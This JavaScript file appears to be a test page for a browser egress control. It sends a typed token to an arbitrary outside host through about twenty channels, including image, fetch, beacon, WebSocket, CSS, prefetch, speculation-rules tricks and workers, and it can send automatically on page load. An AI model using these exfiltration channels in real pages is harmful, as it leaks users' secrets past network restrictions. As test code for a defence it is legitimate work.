// A page on an allowed host that sends what was typed into #token to another host
// (?to=http://HOST:PORT) through the channel named by ?via=. Clicking Continue sends it.
// The worker and service-worker channels run their code in exfil-worker.js.
const params = new URLSearchParams(location.search);
const to = params.get("to");
const via = params.get("via");

// A fresh same-origin about:blank frame's document (no document-start script runs in one).
function frameDocument() {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  return frame.contentDocument;
}

function leak(token) {
  const url = (path) => to + path + "?via=" + via + "&token=" + encodeURIComponent(token);
  const add = (html) => document.body.insertAdjacentHTML("beforeend", html);
  switch (via) {
    case "image":
      new Image().src = url("/leak.png");
      break;
    case "fetch-get":
      fetch(url("/leak"), { mode: "no-cors" });
      break;
    case "fetch-post":
      fetch(url("/leak"), { method: "POST", mode: "no-cors", body: token });
      break;
    case "beacon":
      navigator.sendBeacon(url("/leak"), token);
      break;
    case "websocket":
      new WebSocket(url("/leak").replace(/^http/, "ws"));
      break;
    case "eventsource":
      new EventSource(url("/leak"));
      break;
    case "css-background":
      add(`<div style="width:50px;height:50px;background:url('${url("/leak.png")}')"></div>`);
      break;
    case "script": {
      const script = document.createElement("script");
      script.src = url("/leak.js");
      document.body.append(script);
      break;
    }
    case "stylesheet":
      add(`<link rel="stylesheet" href="${url("/leak.css")}">`);
      break;
    case "prefetch":
      add(`<link rel="prefetch" href="${url("/leak")}">`);
      break;
    case "prerender":
    case "speculation-prefetch":
    case "speculation-late-text":
    case "speculation-type-change":
    case "speculation-document-rules":
    case "speculation-frame":
    case "speculation-popup": {
      // A same-origin URL, which redirects to the other host.
      const hop = "/__redirect?to=" + encodeURIComponent(url("/leak"));
      const kind = via === "prerender" ? "prerender" : "prefetch";
      let rules = { [kind]: [{ source: "list", urls: [hop] }] };
      if (via === "speculation-document-rules") {
        add(`<a href="${hop}">next</a>`);
        rules = { prefetch: [{ where: { selector_matches: "a" }, eagerness: "immediate" }] };
      }
      const text = JSON.stringify(rules);
      const where =
        via === "speculation-frame" ? frameDocument() : via === "speculation-popup" ? window.open("about:blank", "_blank", "popup").document : document;
      const script = where.createElement("script");
      if (via === "speculation-type-change") {
        // Inserted as inert text, made rules afterwards.
        script.type = "text/plain";
        script.textContent = text;
        where.head.append(script);
        script.type = "speculationrules";
      } else if (via === "speculation-late-text") {
        // Inserted empty, filled afterwards.
        script.type = "speculationrules";
        where.head.append(script);
        script.textContent = text;
      } else {
        script.type = "speculationrules";
        script.textContent = text;
        where.head.append(script);
      }
      break;
    }
    case "worker":
      new Worker("exfil-worker.js?" + new URLSearchParams({ to: url("/leak") }));
      break;
    case "worker-websocket":
      new Worker("exfil-worker.js?" + new URLSearchParams({ to: url("/leak"), ws: 1 }));
      break;
    case "service-worker":
      navigator.serviceWorker.register("exfil-worker.js?" + new URLSearchParams({ to: url("/leak") }));
      break;
  }
}

document.querySelector("#send").addEventListener("click", () => {
  leak(document.querySelector("#token").value);
});
// ?auto=N: send N times as the page loads, without waiting for a click.
for (let i = 0; i < Number(params.get("auto") || 0); i++) leak("auto-" + i);
